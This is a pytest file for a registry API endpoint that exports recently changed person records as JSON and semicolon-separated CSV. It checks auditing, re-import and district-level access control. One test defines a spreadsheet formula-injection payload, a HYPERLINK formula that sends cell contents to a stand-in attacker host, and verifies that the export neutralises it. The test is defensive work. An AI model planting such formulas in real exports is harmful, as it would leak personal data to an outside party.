"""GET /registry/changes: persons corrected here since a date, as JSON and CSV."""

from __future__ import annotations

import csv
import io
from datetime import date

from sqlalchemy import select

from exchange.capacity.models import PersonAudit
from exchange.extensions import db
from tests.capacity.test_import import csv_bytes, post_import
from tests.dates import iso


def test_changes_since_leave_out_the_import(as_user, district, make_org):
    client = as_user(role="caseworker", org=district)
    assert post_import(client, district.id, csv_bytes()).status_code == 200
    url = "/api/v1/registry/changes"
    query = {"organization_id": district.id, "since": date.today().isoformat()}
    assert client.get(url, query_string=query).get_json() == {"items": []}

    imported = client.get("/api/v1/persons", query_string={"q": "S-2"}).get_json()["items"][0]
    patched = client.patch(f"/api/v1/persons/{imported['id']}", json={"given_names": "Omar Ali"})
    assert patched.status_code == 200
    created = client.post(
        "/api/v1/persons",
        json={
            "family_name": "Neu",
            "given_names": "Anna",
            "gender": "f",
            "birth_date": "2001-02-03",
            "organization_id": district.id,
        },
    ).get_json()

    items = client.get(url, query_string=query).get_json()["items"]
    assert [(p["id"], p["external_id"]) for p in items] == [
        (imported["id"], "S-2"),
        (created["id"], None),
    ]
    assert items[0]["given_names"] == "Omar Ali" and items[0]["household_ref"] == "H-1"
    assert "changed_at" in items[0]
    assert client.get(url, query_string={**query, "since": "2999-01-01"}).get_json() == {
        "items": []
    }

    response = client.get(url, query_string=query, headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")),
                               delimiter=";"))
    assert [r["external_id"] for r in rows] == ["S-2", ""]
    assert rows[0]["given_names"] == "Omar Ali" and rows[0]["birth_date"] == "1990-05-02"
    assert rows[0]["languages"] == "ar" and rows[0]["household_ref"] == "H-1"
    by_format = client.get(url, query_string={**query, "format": "csv"})
    assert by_format.mimetype == "text/csv"
    # the export is audited
    assert db.session.scalars(
        select(PersonAudit.action).where(
            PersonAudit.person_id == imported["id"], PersonAudit.action == "export"
        )
    ).all()

    # the exported CSV imports again (its extra columns are ignored): S-2 goes back as is
    again = post_import(client, district.id, response.get_data()).get_json()
    assert again.get("errors") == [  # in the session's language (German)
        {"row": 3, "field": "external_id", "column": "external_id",
         "message": "Dieses Feld ist erforderlich."}
    ]


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'


def test_changes_csv_opens_safely_in_a_spreadsheet_and_imports_back_unchanged(
    as_user, district
):
    """A name typed as a formula is exported quoted (it would run when the caseworker opens
    the file), the file starts with a BOM (German Excel shows "Müller", not "MÃ¼ller"), and
    importing the export changes nothing: the quotes the export added are taken off again."""
    client = as_user(role="caseworker", org=district)
    assert post_import(client, district.id, csv_bytes()).status_code == 200
    person = client.get("/api/v1/persons", query_string={"q": "S-2"}).get_json()["items"][0]
    typed = {"family_name": FORMULA, "given_names": "Jürgen", "profession": "-Lehrer",
             "religion": "'=quoted"}
    assert client.patch(f"/api/v1/persons/{person['id']}", json=typed).status_code == 200

    response = client.get("/api/v1/registry/changes", query_string={
        "organization_id": district.id, "since": date.today().isoformat(), "format": "csv"})
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
    assert row["family_name"] == "'" + FORMULA
    assert row["given_names"] == "Jürgen"
    assert row["profession"] == "'-Lehrer"
    assert row["religion"] == "''=quoted"  # a quote of its own: one more, taken off on import

    report = post_import(client, district.id, data).get_json()
    assert report["errors"] == [] and (report["updated"], report["unchanged"]) == (0, 1)
    again = client.get(f"/api/v1/persons/{person['id']}").get_json()
    assert {name: again[name] for name in typed} == typed


def test_changes_only_for_caseworkers_of_the_district(as_user, district, make_org):
    url = "/api/v1/registry/changes"
    other = make_org("district")
    client = as_user(role="caseworker", org=district)
    query = {"organization_id": other.id, "since": iso(-300)}
    assert client.get(url, query_string=query).status_code == 404
    official = as_user(role="official", org=district)
    assert (
        official.get(url, query_string={**query, "organization_id": district.id}).status_code == 404
    )
    assert client.get(url, query_string={"organization_id": district.id}).status_code == 422
